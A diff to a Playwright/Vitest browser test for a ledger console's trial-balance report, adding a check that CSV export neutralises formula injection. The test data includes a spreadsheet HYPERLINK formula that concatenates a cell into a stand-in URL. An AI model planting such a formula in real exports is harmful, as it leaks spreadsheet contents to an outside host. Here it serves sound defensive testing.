@@ -1,12 +1,13 @@
 // The console (issue 34) in a real headless browser, Debian's chromium driven by playwright-core, against a real server
 // on this project's engine: signing in, every page (with an axe-core audit and a screenshot each, at 1280×800 and at a
 // phone's 390×844), a search by metadata, a reversal through its dialog, the trial balance against the API and the
-// CLI's CSV, the audit chain verified in the browser (intact, then damaged), a live event, a read-only key, a revoked
+// CLI's CSV (a name made as a formula written as text), the audit chain verified in the browser (intact, then damaged), a live event, a read-only key, a revoked
 // key. Every test checks that no request left the server's origin and that the browser logged no error.
 // Screenshots go to screenshots/console/<engine>/.
 import { mkdirSync, readFileSync, rmSync } from 'node:fs';
 import { createRequire } from 'node:module';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
 import { parseJsonObject, type JsonNumber } from '../src/core/json.js';
@@ -279,7 +280,11 @@ describeInBrowser('the console in a headless browser', () => {
     expectClean(w, [/ERR_CONNECTION_RESET/]);
   });
 
-  it('shows the trial balance with the API’s totals, and downloads the CLI’s CSV', async () => {
+  it('shows the trial balance with the API’s totals, and downloads the CLI’s CSV, a name made as a formula as text', async () => {
+    const formula = '=HYPERLINK("http://x"&A2,"x")';
+    const trap = await makeAccount(admin, { name: formula, type: 'ASSET' });
+    const suspense = await makeAccount(admin, { name: '-Suspense', type: 'LIABILITY' });
+    expect((await post(admin, [fiat(trap, 'DEBIT', '5.25'), fiat(suspense, 'CREDIT', '5.25')])).status).toBe(201);
     const w = await open();
     await signIn(w);
     await visitSection(w, 'Reports');
@@ -294,6 +299,9 @@ describeInBrowser('the console in a headless browser', () => {
     const printed = await cli(['--db', t.dbPath, 'reports', 'trial-balance', '--tenant', t.tenant.tenantId, '--as-of', asOf!, '--format', 'csv']);
     expect(printed.code, printed.stderr).toBe(0);
     expect(saved).toBe(printed.stdout);
+    const rows = parse(saved, { columns: true }) as Array<Record<string, string>>;
+    expect(rows.find((r) => r.accountId === trap)).toMatchObject({ name: `'${formula}`, debit: '5.25' });
+    expect(rows.find((r) => r.accountId === suspense)).toMatchObject({ name: "'-Suspense", credit: '5.25' });
     expectClean(w);
   });
 
